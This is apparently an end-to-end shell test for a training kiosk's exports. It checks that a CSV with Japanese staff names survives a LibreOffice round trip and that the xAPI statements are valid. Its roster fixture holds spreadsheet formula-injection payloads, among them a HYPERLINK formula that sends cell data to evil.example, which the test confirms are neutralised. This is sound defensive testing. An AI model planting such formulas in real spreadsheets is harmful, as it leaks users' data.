#!/usr/bin/env bash
# `kiosk export csv` read by a real spreadsheet: learners with Japanese names (including a character outside the BMP) and
# names that are formulas come in through `kiosk roster import`, attempts through `kiosk simulate`; the CSV goes through
# LibreOffice Calc (CSV → xlsx → CSV). Names, staff IDs with leading zeros and the neutralised cells come back
# identical, and no cell became a formula, while an un-neutralised control cell does. Also: the export is logged with
# its chain heads, and `kiosk export xapi` gives one valid statement per answer and per outcome.
source "$(dirname "$0")/lib.sh"

command -v soffice >/dev/null || fail "LibreOffice (soffice) is needed for this test"
DB="$KIOSK_E2E_DIR/ward.db"
SCEN="$KIOSK_SOURCE_DIR/tests/e2e/scenarios"
# The terminal's configuration names the database: exports are logged only in the terminal's own working database.
CFG="$KIOSK_E2E_DIR/config.json"
printf '{"db_path": "%s"}\n' "$DB" >"$CFG"
kiosk() { "$KIOSK_BIN" --config "$CFG" --create --scenarios "$SCEN" "$@"; }
export HOME="$KIOSK_E2E_DIR/home"  # LibreOffice writes its profile here, not into the developer's home
mkdir -p "$HOME"

# The roster: Japanese names (髙, 﨑 and 𠮷 are the characters Shift-JIS and some fonts get wrong), and cells that a
# spreadsheet would run as formulas.
cat >"$KIOSK_E2E_DIR/roster.csv" <<'EOF'
職員番号,氏名,所属,採用日
000123,千代田 花子,政策経営部,2024-04-01
100201,髙橋 﨑太郎,総務部 総務課,2023-04-01
100202,𠮷田 一,地域振興部,
100203,"=HYPERLINK(""http://evil.example/?d=""&A1,""詳細"")",=1+1,
100204,+81-3-3264-2111,@SUM(1;2),
100205,-2+3,"カンマ, と ""引用符""",
100206,@cmd,"改行を
含む所属",
EOF
kiosk roster import "$KIOSK_E2E_DIR/roster.csv" >"$KIOSK_E2E_DIR/roster.out" || fail "roster import failed: $(cat "$KIOSK_E2E_DIR/roster.out")"
grep -q "added: 7" "$KIOSK_E2E_DIR/roster.out" || fail "expected 7 learners: $(cat "$KIOSK_E2E_DIR/roster.out")"

seed=1
for staff in 000123 100201 100202 100203 100204 100205 100206; do
    kiosk simulate --course refresher --staff "$staff" --answers correct --seed $seed >/dev/null || fail "simulate for $staff failed"
    kiosk simulate --course orientation --staff "$staff" --answers random --seed $((seed + 100)) >/dev/null || fail "simulate for $staff failed"
    seed=$((seed + 1))
done

kiosk export csv -o "$KIOSK_E2E_DIR/attempts.csv" 2>"$KIOSK_E2E_DIR/export.err" || fail "export csv failed: $(cat "$KIOSK_E2E_DIR/export.err")"
grep -Eq "^chain [^ ]+: [0-9]+ rows, head [0-9a-f]{64}$" "$KIOSK_E2E_DIR/export.err" || fail "no chain head on stderr: $(cat "$KIOSK_E2E_DIR/export.err")"
head=$(grep -E "^chain " "$KIOSK_E2E_DIR/export.err" | awk '{print $NF}')
[[ "$(sql "$DB" "select count(*) from events where kind = 'export' and detail_json like '%$head%' and detail_json like '%\"rows\":14%'")" == 1 ]] ||
    fail "the export was not logged with its head and row count"
kiosk verify --no-log >/dev/null || fail "verify failed after the export"
# The export event is itself chained right after the snapshot: the chain now ends in it, and it follows the exported head.
logged=$(sql "$DB" "select row_hash from ledger where kind = 'event' and prev_hash = '$head' and body_json like '%export%'")
[[ -n "$logged" ]] || fail "the export event is not chained right after the exported head"
"$KIOSK_BIN" --db "$DB" verify --no-log | grep -q "head $logged" || fail "verify and export disagree on the chain head"

# A control file: the same shape, one cell left un-neutralised, to show that the check below can see a formula.
python3 - "$KIOSK_E2E_DIR/attempts.csv" "$KIOSK_E2E_DIR/control.csv" <<'EOF'
import sys
rows = open(sys.argv[1], encoding="utf-8-sig", newline="").read().split("\r\n")
rows[1] = rows[1].replace('"', "", 2).replace("000123", "=1+1", 1) if rows[1].startswith('"000123"') else "=1+1," + rows[1]
open(sys.argv[2], "w", encoding="utf-8-sig", newline="").write("\r\n".join(rows))
EOF

convert() {  # convert FILTER_OPTIONS IN OUTDIR: CSV → xlsx → CSV through LibreOffice Calc
    local opts="$1" in="$2" out="$3" base
    base=$(basename "$in" .csv)
    mkdir -p "$out"
    soffice --headless --norestore --infilter="CSV:$opts" --convert-to xlsx --outdir "$out" "$in" >"$out/soffice.log" 2>&1 ||
        fail "soffice could not read $in: $(cat "$out/soffice.log")"
    [[ -s "$out/$base.xlsx" ]] || fail "soffice wrote no xlsx for $in: $(cat "$out/soffice.log")"
    (cd "$out" && soffice --headless --norestore --convert-to 'csv:Text - txt - csv (StarCalc):44,34,76,1' --outdir "$out/back" "$base.xlsx" \
        >>"$out/soffice.log" 2>&1) || fail "soffice could not write CSV from $base.xlsx"
    [[ -s "$out/back/$base.csv" ]] || fail "soffice wrote no CSV for $base.xlsx: $(cat "$out/soffice.log")"
}
# 44 = comma, 34 = double quote, 76 = UTF-8, line 1; then: no column formats, language 1041 (Japanese), quoted fields
# as text, no special-number detection — how the admin guide tells staff to open the file, so staff IDs keep their zeros.
convert "44,34,76,1,,1041,true,false" "$KIOSK_E2E_DIR/attempts.csv" "$KIOSK_E2E_DIR/as_text"
# And as a double-click opens it: LibreOffice's defaults.
convert "44,34,76,1" "$KIOSK_E2E_DIR/attempts.csv" "$KIOSK_E2E_DIR/defaults"
convert "44,34,76,1" "$KIOSK_E2E_DIR/control.csv" "$KIOSK_E2E_DIR/control"

python3 - "$KIOSK_E2E_DIR" <<'EOF' || fail "the spreadsheet round trip changed names or neutralised cells (see above)"
import csv, io, sys, zipfile
d = sys.argv[1]

def rows(path, bom):
    return list(csv.reader(io.open(path, encoding="utf-8-sig" if bom else "utf-8", newline="")))

def formulas(xlsx):
    with zipfile.ZipFile(xlsx) as z:
        return sum(z.read(n).decode().count("<f>") + z.read(n).decode().count("<f ")
                   for n in z.namelist() if n.startswith("xl/worksheets/"))

raw = open(f"{d}/attempts.csv", "rb").read()
assert raw.startswith(b"\xef\xbb\xbf"), "no UTF-8 BOM"
assert b"\r\n" in raw and b"\n" not in raw.replace(b"\r\n", b"").replace(b"\xe6\x94\xb9\xe8\xa1\x8c\xe3\x82\x92\n", b""), "line ends are not CRLF"
orig = rows(f"{d}/attempts.csv", True)
header = orig[0]
col = {name: header.index(name) for name in ("職員番号", "氏名", "所属", "受講ID", "修了コード")}
assert len(orig) == 1 + 14, len(orig)

names = {r[col["職員番号"]]: r[col["氏名"]] for r in orig[1:]}
depts = {r[col["職員番号"]]: r[col["所属"]] for r in orig[1:]}
# The export neutralised exactly the cells a spreadsheet would run.
assert names["000123"] == "千代田 花子" and names["100201"] == "髙橋 﨑太郎" and names["100202"] == "𠮷田 一", names
assert names["100203"] == "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"詳細\")", names["100203"]
assert depts["100203"] == "'=1+1" and names["100204"] == "'+81-3-3264-2111" and depts["100204"] == "'@SUM(1;2)", depts
assert names["100205"] == "'-2+3" and names["100206"] == "'@cmd", names
assert depts["100205"] == "カンマ, と \"引用符\"" and depts["100206"] == "改行を\n含む所属", depts
neutralised = [c for r in orig[1:] for c in r if c[:1] == "'"]
assert len(neutralised) == 2 * 6, neutralised

def compare(which, text_cols):
    back = rows(f"{d}/{which}/back/attempts.csv", False)
    assert len(back) == len(orig), (which, len(back))
    assert back[0] == header, (which, back[0])
    for o, b in zip(orig[1:], back[1:]):
        for name in text_cols:
            i = col[name]
            assert o[i] == b[i], f"{which}: {name} {o[i]!r} came back as {b[i]!r}"
    return back

compare("as_text", ["職員番号", "氏名", "所属", "受講ID", "修了コード"])
back = compare("defaults", ["氏名", "所属", "受講ID", "修了コード"])  # by default Calc reads 000123 as the number 123
assert formulas(f"{d}/as_text/attempts.xlsx") == 0 and formulas(f"{d}/defaults/attempts.xlsx") == 0, "a cell became a formula"
assert formulas(f"{d}/control/control.xlsx") >= 1, "the control's un-neutralised =1+1 did not become a formula: the check is blind"
print("spreadsheet round trip: %d rows, %d neutralised cells, names identical" % (len(orig) - 1, len(neutralised)))
EOF

# xAPI: one statement per line, each with the parts a learning record store needs.
kiosk export xapi -o "$KIOSK_E2E_DIR/statements.jsonl" 2>"$KIOSK_E2E_DIR/xapi.err" || fail "export xapi failed: $(cat "$KIOSK_E2E_DIR/xapi.err")"
grep -q "head $logged" "$KIOSK_E2E_DIR/xapi.err" || fail "xapi export printed another head (expected the one after the CSV export's chained event)"
responses=$(sql "$DB" "select count(*) from responses")
finished=$(sql "$DB" "select count(*) from attempts where state = 'finished'")
completed=$(sql "$DB" "select count(*) from attempts where state = 'finished' and completed = 1")
python3 - "$KIOSK_E2E_DIR/statements.jsonl" "$responses" "$finished" "$completed" <<'EOF' || fail "xAPI statements are wrong"
import json, re, sys
lines = open(sys.argv[1], encoding="utf-8").read().splitlines()
responses, finished, completed = map(int, sys.argv[2:5])
verbs = {}
ids = set()
for line in lines:
    s = json.loads(line)
    ids.add(s["id"])
    v = s["verb"]["id"]
    verbs[v] = verbs.get(v, 0) + 1
    assert re.fullmatch(r"http://adlnet\.gov/expapi/verbs/(answered|completed|passed|failed)", v), v
    assert s["actor"]["account"]["name"] in {"000123", "100201", "100202", "100203", "100204", "100205", "100206"}, s["actor"]
    assert s["actor"]["account"]["homePage"].startswith("https://")
    sc = s["result"]["score"]
    assert sc["min"] == 0 and 0 <= sc["raw"] <= sc["max"] and abs(sc["scaled"] - sc["raw"] / sc["max"]) < 1e-4, sc
    assert isinstance(s["result"]["success"], bool) and isinstance(s["result"]["completion"], bool)
    assert re.fullmatch(r"PT(\d+H)?(\d+M)?(\d+(\.\d+)?S)?", s["result"]["duration"]), s["result"]["duration"]
    ctx = s["context"]
    assert re.fullmatch(r"[0-9a-f-]{36}", ctx["registration"])
    ext = ctx["extensions"]
    assert any(k.endswith("/content-version") and re.fullmatch(r"[0-9a-f]{64}", x) for k, x in ext.items()), ext
    assert any(k.endswith("/course") for k in ext), ext
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", s["timestamp"])
names = {json.loads(l)["actor"].get("name") for l in lines}
assert "𠮷田 一" in names and "髙橋 﨑太郎" in names, names
A = "http://adlnet.gov/expapi/verbs/"
assert verbs.get(A + "answered") == responses, (verbs, responses)
assert verbs.get(A + "passed", 0) + verbs.get(A + "failed", 0) == finished, verbs
assert verbs.get(A + "completed") == completed, verbs
assert len(ids) == len(lines), "statement ids repeat"
print("xapi: %d statements %s" % (len(lines), {k.rsplit('/', 1)[1]: n for k, n in verbs.items()}))
EOF
# Exporting again gives the same statements (same ids), so a learning record store keeps one copy of each.
kiosk export xapi -o "$KIOSK_E2E_DIR/again.jsonl" 2>/dev/null || fail "second xapi export failed"
cmp -s "$KIOSK_E2E_DIR/statements.jsonl" "$KIOSK_E2E_DIR/again.jsonl" || fail "a second export differs"
[[ "$(sql "$DB" "select count(*) from events where kind = 'export'")" == 3 ]] || fail "each export must be logged"
echo "export: ok"
